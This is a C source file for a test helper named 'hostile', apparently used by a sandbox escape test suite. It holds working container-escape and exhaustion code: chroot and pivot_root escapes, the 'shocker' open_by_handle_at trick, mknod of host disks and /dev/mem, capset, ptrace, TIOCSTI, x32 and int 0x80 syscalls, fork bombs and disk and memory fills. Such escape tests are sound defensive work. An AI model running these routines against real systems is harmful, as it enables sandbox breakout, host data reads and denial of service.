/* hostile: one attack per invocation, for the sandboxd escape suite (tests/escape).
 *
 *   hostile ATTACK [ARGS...]
 *
 * Every step prints one line "STEP ok [detail]" or "STEP errno NAME", flushed at once, so a
 * job killed half-way still shows how far it got. When an attack gets through, the program
 * also tries to leave a trace where the host can see it (a file in /work, which the tests
 * bind from a host directory); the tests judge by what they find on the host, not by this
 * output alone.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static const char *ename(int e) {
    const char *n = strerrorname_np(e);
    return n ? n : "E?";
}

static void report(const char *step, long r) {
    if (r < 0) printf("%s errno %s\n", step, ename(errno));
    else printf("%s ok %ld\n", step, r);
    fflush(stdout);
}

/* Leave a trace in the host-visible work directory: the proof of an escape. */
static void trace(const char *name, const char *what) {
    char path[512];
    snprintf(path, sizeof path, "/work/ESCAPED-%s", name);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        if (write(fd, what, strlen(what)) < 0) { /* nothing more to do */ }
        close(fd);
    }
}

static void dump(const char *label, int fd) {
    char buf[4096];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n < 0) { printf("%s read errno %s\n", label, ename(errno)); fflush(stdout); return; }
    buf[n] = 0;
    for (ssize_t i = 0; i < n; i++) if (buf[i] == '\n' || buf[i] == 0) buf[i] = ' ';
    printf("%s content %s\n", label, buf);
    fflush(stdout);
}

static int cmd_read(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        int fd = open(argv[i], O_RDONLY);
        if (fd < 0) { printf("%s errno %s\n", argv[i], ename(errno)); fflush(stdout); continue; }
        dump(argv[i], fd);
        close(fd);
    }
    return 0;
}

static int cmd_write(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        int fd = open(argv[i], O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd < 0) { printf("%s errno %s\n", argv[i], ename(errno)); fflush(stdout); continue; }
        ssize_t n = write(fd, "escaped\n", 8);
        printf("%s %s\n", argv[i], n == 8 ? "written" : "short");
        fflush(stdout);
        close(fd);
    }
    return 0;
}

/* chroot into a subdirectory, climb with "..", chroot(".") again: the classic chroot escape. */
static int cmd_chroot_escape(int argc, char **argv) {
    mkdir("/tmp/jail", 0755);
    report("chroot", chroot("/tmp/jail"));
    for (int i = 0; i < 64; i++) if (chdir("..") < 0) break;
    report("chroot-dot", chroot("."));
    for (int i = 0; i < argc; i++) {
        int fd = open(argv[i], O_RDONLY);
        if (fd < 0) { printf("%s errno %s\n", argv[i], ename(errno)); fflush(stdout); continue; }
        dump(argv[i], fd);
        trace("chroot", argv[i]);
        close(fd);
    }
    return 0;
}

static int cmd_pivot_root(void) {
    mkdir("/tmp/newroot", 0755);
    mkdir("/tmp/newroot/old", 0755);
    long r = syscall(SYS_pivot_root, "/tmp/newroot", "/tmp/newroot/old");
    report("pivot_root", r);
    if (r == 0) trace("pivot_root", "pivot_root");
    return 0;
}

/* Make a read-only bind writable again, then write through it. */
static int cmd_remount(int argc, char **argv) {
    (void)argc;
    long r = mount(NULL, argv[0], NULL, MS_REMOUNT | MS_BIND, NULL);
    report("remount", r);
    char path[512];
    snprintf(path, sizeof path, "%s/ESCAPED-remount", argv[0]);
    int fd = open(path, O_WRONLY | O_CREAT, 0644);
    report("write-after-remount", fd);
    return 0;
}

static int cmd_mount_proc_sysfs(void) {
    mkdir("/tmp/sys", 0755);
    long r = mount("sysfs", "/tmp/sys", "sysfs", 0, NULL);
    report("mount-sysfs", r);
    if (r == 0) trace("mount", "sysfs");
    return 0;
}

static int cmd_umount(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        long r = umount2(argv[i], MNT_DETACH);
        report(argv[i], r);
        if (r == 0) trace("umount", argv[i]);
    }
    return 0;
}

/* mknod a block device with the numbers of the host's root disk, then read its first sector. */
static int cmd_mknod(int argc, char **argv) {
    (void)argc;
    unsigned maj = strtoul(argv[1], NULL, 0), min = strtoul(argv[2], NULL, 0);
    long r = mknod(argv[0], S_IFBLK | 0666, makedev(maj, min));
    report("mknod-block", r);
    char chr[512];
    snprintf(chr, sizeof chr, "%s-mem", argv[0]);
    report("mknod-char-mem", mknod(chr, S_IFCHR | 0666, makedev(1, 1)));
    int fd = open(argv[0], O_RDONLY);
    report("open-block", fd);
    if (fd >= 0) { dump("block", fd); trace("mknod", "block"); }
    fd = open(chr, O_RDONLY);
    report("open-mem", fd);
    if (fd >= 0) { dump("mem", fd); trace("mknod", "mem"); }
    return 0;
}

/* "shocker": guess a handle for the root directory of the file system /usr lives on
 * (ext4's root is inode 2, generation 0) and open it, bypassing the mount namespace. */
static int cmd_open_by_handle(int argc, char **argv) {
    struct { struct file_handle h; unsigned char bytes[128]; } fh;
    int mount_id;
    fh.h.handle_bytes = 128;
    long r = name_to_handle_at(AT_FDCWD, "/usr", &fh.h, &mount_id, 0);
    report("name_to_handle_at", r);
    if (r < 0) { fh.h.handle_type = 1; fh.h.handle_bytes = 8; }
    uint32_t ino2[2] = {2, 0};
    memcpy(fh.h.f_handle, ino2, sizeof ino2);
    fh.h.handle_bytes = 8;
    fh.h.handle_type = 1;  /* FILEID_INO32_GEN */
    int mfd = open("/usr", O_RDONLY | O_DIRECTORY);
    int root = open_by_handle_at(mfd, &fh.h, O_RDONLY | O_DIRECTORY);
    report("open_by_handle_at", root);
    if (root >= 0) {
        trace("open_by_handle", "root");
        for (int i = 0; i < argc; i++) {
            const char *rel = argv[i][0] == '/' ? argv[i] + 1 : argv[i];
            int fd = openat(root, rel, O_RDONLY);
            if (fd >= 0) dump(argv[i], fd); else report(argv[i], fd);
        }
    }
    return 0;
}

static int cmd_proc_exe(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        int fd = open(argv[i], O_WRONLY);
        report(argv[i], fd);
        if (fd >= 0) {
            /* Do not damage anything even if it opened: write nothing, just record it. */
            trace("proc_exe", argv[i]);
            close(fd);
        }
    }
    return 0;
}

static int cmd_kill(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        pid_t pid = (pid_t)strtol(argv[i], NULL, 0);
        char step[64];
        snprintf(step, sizeof step, "kill %d", pid);
        report(step, kill(pid, SIGKILL));
    }
    return 0;
}

static int cmd_ptrace(int argc, char **argv) {
    (void)argc;
    pid_t pid = (pid_t)strtol(argv[0], NULL, 0);
    long r = syscall(SYS_ptrace, 16 /* PTRACE_ATTACH */, pid, 0, 0);
    report("ptrace-attach", r);
    if (r == 0) trace("ptrace", argv[0]);
    return 0;
}

/* A raw system call with integer arguments: NR A0..A5. */
static int cmd_syscall(int argc, char **argv) {
    long a[7] = {0};
    for (int i = 0; i < argc && i < 7; i++) a[i] = strtol(argv[i], NULL, 0);
    printf("calling %ld\n", a[0]);
    fflush(stdout);
    long r = syscall(a[0], a[1], a[2], a[3], a[4], a[5], a[6]);
    report("syscall", r);
    return 0;
}

static int cmd_io_uring(void) {
    unsigned char params[120];
    memset(params, 0, sizeof params);
    long r = syscall(425 /* io_uring_setup */, 4, params);
    report("io_uring_setup", r);
    if (r >= 0) trace("io_uring", "ring");
    return 0;
}

static int cmd_unshare_user(void) {
    long r = unshare(CLONE_NEWUSER | CLONE_NEWNS);
    report("unshare", r);
    if (r == 0) {
        trace("unshare", "userns");
        report("mount-tmpfs", mount("none", "/tmp", "tmpfs", 0, NULL));
    }
    pid_t pid = (pid_t)syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0) { trace("clone_newuser", "child"); _exit(0); }
    report("clone-newuser", pid);
    if (pid > 0) waitpid(pid, NULL, 0);
    return 0;
}

static int cmd_setns(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        int fd = open(argv[i], O_RDONLY);
        report(argv[i], fd);
        if (fd < 0) continue;
        long r = setns(fd, 0);
        report("setns", r);
        if (r == 0) trace("setns", argv[i]);
    }
    return 0;
}

static void print_caps(void) {
    FILE *f = fopen("/proc/self/status", "r");
    char line[256];
    while (f && fgets(line, sizeof line, f))
        if (!strncmp(line, "Cap", 3) || !strncmp(line, "Uid:", 4) || !strncmp(line, "NoNewPrivs", 10))
            printf("status %s", line);
    if (f) fclose(f);
    fflush(stdout);
}

/* Raise every capability with capset, then use the privilege on a host-owned directory. */
static int cmd_capset(int argc, char **argv) {
    struct __user_cap_header_struct hdr = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2];
    memset(data, 0xff, sizeof data);
    report("capset", syscall(SYS_capset, &hdr, data));
    report("setresuid", setresuid(0, 0, 0));
    report("securebits-unlock", prctl(28 /* PR_SET_SECUREBITS */, 0, 0, 0, 0));
    print_caps();
    if (argc > 0) {
        int fd = open(argv[0], O_WRONLY | O_CREAT, 0644);
        report("privileged-write", fd);
    }
    return 0;
}

static int cmd_tiocsti(void) {
    char c = 'Z';
    printf("isatty %d\n", isatty(0));
    fflush(stdout);
    report("tiocsti", ioctl(0, TIOCSTI, &c));
    return 0;
}

/* i386 creat(2) through int 0x80; the path must live below 4 GiB. */
static int cmd_int80(int argc, char **argv) {
    (void)argc;
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) { report("mmap32", -1); return 1; }
    strncpy(low, argv[0], 4000);
    printf("calling int80\n");
    fflush(stdout);
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(8), "b"((long)low), "c"(0644L) : "memory");
    printf("int80 returned %ld\n", r);
    fflush(stdout);
    return 0;
}

/* x32 creat(2): the x86_64 number with the x32 bit set. */
static int cmd_x32(int argc, char **argv) {
    (void)argc;
    printf("calling x32\n");
    fflush(stdout);
    long r = syscall(0x40000000L | 85, argv[0], 0644);
    report("x32-creat", r);
    return 0;
}

/* Double fork + setsid, ignore every signal, exec a loop that keeps writing a heartbeat. */
static int cmd_daemon(int argc, char **argv) {
    (void)argc;
    pid_t pid = fork();
    if (pid < 0) { report("fork", -1); return 1; }
    if (pid == 0) {
        setsid();
        if (fork() != 0) _exit(0);
        for (int s = 1; s < 32; s++) signal(s, SIG_IGN);
        char *args[] = {"/hostile/hostile", "heartbeat", argv[0], argv[1], NULL};
        int null = open("/dev/null", O_RDWR);
        dup2(null, 0); dup2(null, 1); dup2(null, 2);
        execv(args[0], args);
        _exit(127);
    }
    waitpid(pid, NULL, 0);
    printf("daemonized\n");
    fflush(stdout);
    usleep(300 * 1000);
    return 0;
}

static int cmd_heartbeat(int argc, char **argv) {
    (void)argc;
    for (int s = 1; s < 32; s++) signal(s, SIG_IGN);
    for (int i = 0; i < 600; i++) {  /* at most a minute */
        int fd = open(argv[1], O_WRONLY | O_CREAT | O_APPEND, 0644);
        if (fd >= 0) { dprintf(fd, "%d\n", i); close(fd); }
        usleep(100 * 1000);
    }
    return 0;
}

static int cmd_forkbomb(int argc, char **argv) {
    int cap = argc > 0 ? atoi(argv[0]) : 100000;
    int made = 0, failed = 0;
    for (int i = 0; i < cap; i++) {
        pid_t pid = fork();
        if (pid == 0) { pause(); _exit(0); }
        if (pid < 0) { failed = 1; break; }
        made++;
    }
    printf("forked %d failed %d\n", made, failed);
    fflush(stdout);
    sleep(1);
    return failed ? 1 : 0;
}

static void *idle(void *arg) { (void)arg; pause(); return NULL; }

static int cmd_threads(int argc, char **argv) {
    int cap = argc > 1 ? atoi(argv[1]) : 100000;
    int made = 0;
    pthread_attr_t attr;
    pthread_attr_init(&attr);
    pthread_attr_setstacksize(&attr, 64 * 1024);
    for (int i = 0; i < cap; i++) {
        pthread_t t;
        if (pthread_create(&t, &attr, idle, NULL) != 0) break;
        made++;
    }
    printf("threads %d\n", made);
    fflush(stdout);
    sleep(1);  /* the host counts /proc/PID/task meanwhile */
    return made < cap ? 1 : 0;
}

static int cmd_fds(int argc, char **argv) {
    (void)argc; (void)argv;
    struct rlimit rl = {1 << 20, 1 << 20};
    report("raise-nofile", setrlimit(RLIMIT_NOFILE, &rl));
    int n = 0;
    while (open("/dev/null", O_RDONLY) >= 0) n++;
    printf("fds %d errno %s\n", n, ename(errno));
    fflush(stdout);
    sleep(1);  /* the host counts /proc/PID/fd meanwhile */
    return 0;
}

static int cmd_pipes(int argc, char **argv) {
    (void)argc; (void)argv;
    static char chunk[65536];
    long bytes = 0;
    int pipes = 0;
    for (;;) {
        int p[2];
        if (pipe2(p, O_NONBLOCK) < 0) { printf("pipe errno %s\n", ename(errno)); break; }
        pipes++;
        fcntl(p[1], F_SETPIPE_SZ, 1 << 20);
        ssize_t w;
        while ((w = write(p[1], chunk, sizeof chunk)) > 0) bytes += w;
    }
    printf("pipes %d bytes %ld\n", pipes, bytes);
    fflush(stdout);
    return 0;
}

static int cmd_fill(int argc, char **argv) {
    (void)argc;
    static char chunk[1 << 20];
    memset(chunk, 'x', sizeof chunk);
    int fd = open(argv[0], O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) { report("open", fd); return 1; }
    long total = 0, cap = argc > 1 ? atol(argv[1]) << 20 : 1L << 40;
    ssize_t w = 0;
    while (total < cap && (w = write(fd, chunk, sizeof chunk)) > 0) total += w;
    printf("wrote %ld errno %s\n", total, w < 0 ? ename(errno) : "none");
    fflush(stdout);
    return w < 0 ? 1 : 0;
}

static int cmd_files(int argc, char **argv) {
    (void)argc;
    long cap = atol(argv[1]), made = 0;
    char path[512];
    for (; made < cap; made++) {
        snprintf(path, sizeof path, "%s/f%ld", argv[0], made);
        int fd = open(path, O_WRONLY | O_CREAT, 0644);
        if (fd < 0) break;
        close(fd);
    }
    printf("files %ld errno %s\n", made, made < cap ? ename(errno) : "none");
    fflush(stdout);
    return made < cap ? 1 : 0;
}

static int cmd_mem(int argc, char **argv) {
    (void)argc;
    size_t n = (size_t)atol(argv[0]) << 20;
    volatile char *p = malloc(n);
    if (!p) { printf("malloc failed\n"); return 1; }
    for (size_t i = 0; i < n; i += 4096) p[i] = 1;
    printf("touched %s MiB\n", argv[0]);
    fflush(stdout);
    return 0;
}

static int cmd_spin(void) {
    for (volatile unsigned long i = 0;; i++) { }
    return 0;
}

static int cmd_hardlink(int argc, char **argv) {
    /* link SRC... into /work */
    for (int i = 0; i < argc; i++) {
        char dst[512];
        snprintf(dst, sizeof dst, "/work/hardlink-%d", i);
        report(argv[i], link(argv[i], dst));
        char procpath[64];
        int fd = open(argv[i], O_RDONLY);
        if (fd >= 0) {
            snprintf(procpath, sizeof procpath, "/proc/self/fd/%d", fd);
            snprintf(dst, sizeof dst, "/work/hardlink-fd-%d", i);
            report("linkat-follow", linkat(AT_FDCWD, procpath, AT_FDCWD, dst, AT_SYMLINK_FOLLOW));
            snprintf(dst, sizeof dst, "/work/hardlink-empty-%d", i);
            report("linkat-empty", linkat(fd, "", AT_FDCWD, dst, AT_EMPTY_PATH));
            close(fd);
        }
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2) { fprintf(stderr, "usage: hostile ATTACK [ARGS...]\n"); return 2; }
    const char *c = argv[1];
    int n = argc - 2;
    char **a = argv + 2;
    if (!strcmp(c, "read")) return cmd_read(n, a);
    if (!strcmp(c, "write")) return cmd_write(n, a);
    if (!strcmp(c, "chroot-escape")) return cmd_chroot_escape(n, a);
    if (!strcmp(c, "pivot-root")) return cmd_pivot_root();
    if (!strcmp(c, "remount")) return cmd_remount(n, a);
    if (!strcmp(c, "mount-sysfs")) return cmd_mount_proc_sysfs();
    if (!strcmp(c, "umount")) return cmd_umount(n, a);
    if (!strcmp(c, "mknod")) return cmd_mknod(n, a);
    if (!strcmp(c, "open-by-handle")) return cmd_open_by_handle(n, a);
    if (!strcmp(c, "proc-exe")) return cmd_proc_exe(n, a);
    if (!strcmp(c, "kill")) return cmd_kill(n, a);
    if (!strcmp(c, "ptrace")) return cmd_ptrace(n, a);
    if (!strcmp(c, "syscall")) return cmd_syscall(n, a);
    if (!strcmp(c, "io-uring")) return cmd_io_uring();
    if (!strcmp(c, "unshare-user")) return cmd_unshare_user();
    if (!strcmp(c, "setns")) return cmd_setns(n, a);
    if (!strcmp(c, "capset")) return cmd_capset(n, a);
    if (!strcmp(c, "tiocsti")) return cmd_tiocsti();
    if (!strcmp(c, "int80")) return cmd_int80(n, a);
    if (!strcmp(c, "x32")) return cmd_x32(n, a);
    if (!strcmp(c, "daemon")) return cmd_daemon(n, a);
    if (!strcmp(c, "heartbeat")) return cmd_heartbeat(n, a);
    if (!strcmp(c, "forkbomb")) return cmd_forkbomb(n, a);
    if (!strcmp(c, "threads")) return cmd_threads(n, a);
    if (!strcmp(c, "fds")) return cmd_fds(n, a);
    if (!strcmp(c, "pipes")) return cmd_pipes(n, a);
    if (!strcmp(c, "fill")) return cmd_fill(n, a);
    if (!strcmp(c, "files")) return cmd_files(n, a);
    if (!strcmp(c, "mem")) return cmd_mem(n, a);
    if (!strcmp(c, "spin")) return cmd_spin();
    if (!strcmp(c, "hardlink")) return cmd_hardlink(n, a);
    fprintf(stderr, "hostile: unknown attack %s\n", c);
    return 2;
}
